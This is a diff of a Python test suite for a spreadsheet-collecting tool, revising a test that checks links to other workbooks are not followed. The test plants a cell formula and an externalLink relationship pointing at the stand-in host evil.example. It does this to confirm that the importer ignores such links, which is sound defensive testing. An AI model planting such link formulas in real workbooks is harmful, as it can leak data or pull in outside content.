@@ -104,30 +104,25 @@ def test_macros_are_not_looked_at(folder, path, tmp_path):
     assert any("macros" in str(n) for n in report.notices)
 
 
-def test_links_to_other_workbooks_are_not_followed(folder, path, tmp_path):
+def test_links_to_other_workbooks_are_not_followed(folder, path, tmp_path, unchanged):
+    book = openpyxl.load_workbook(path)
+    book["SWOT"]["F5"] = "='https://evil.example/[book.xlsx]Sheet1'!A1"
+    book.save(tmp_path / "a.xlsx")
+    part = part_of(tmp_path / "a.xlsx", "SWOT")
+
+    def change(name, data):  # as a spreadsheet program that has followed the link saved it
+        return data.replace(b"<v />", b"<v>As sent</v>", 1) if name == part else data
+
+    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
+    link = f'<Relationship Id="r" Type="{relation}" Target="https://evil.example" TargetMode='
     back = repacked(
-        path,
+        tmp_path / "a.xlsx",
         tmp_path / "b.xlsx",
-        lambda name, data: (
-            data.replace(
-                b"</workbook>",
-                b'<externalReferences><externalReference r:id="rId99"/></externalReferences></workbook>',
-            )
-            if name == "xl/workbook.xml"
-            else data
-        ),
-        (
-            "xl/externalLinks/externalLink1.xml",
-            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
-        ),
+        change,
+        ("xl/externalLinks/_rels/externalLink1.xml.rels", f'{link}"External"/>'),
     )
-    try:
-        report = collect(folder, back)
-    except TableError as error:
-        assert "damaged" in str(error)
-    else:
-        assert (report.taken, report.changed, report.deleted) == (0, 0, 0)
-    assert folder.journal.position() == 2
+    report = collect(folder, back)
+    assert (report.taken, report.changed, report.deleted) == (0, 0, 0)
 
 
 def test_a_hundred_megabytes_are_refused(folder, path, tmp_path, unchanged):
@@ -220,7 +215,7 @@ def test_the_form_of_another_workshop_is_refused(new_folder, folder, path, tmp_p
 def test_a_cluster_that_left_is_named(folder, path, tmp_path, unchanged):
     (folder.path / "clusters.csv").write_text("id,name\nbeta,Beta\n", "utf-8")
     vars(folder).pop("_roster", None)
-    with pytest.raises(TableError, match="clusters.csv does not name"):
+    with pytest.raises(TableError, match=r"clusters\.csv does not name"):
         collect(folder, path)
 
 
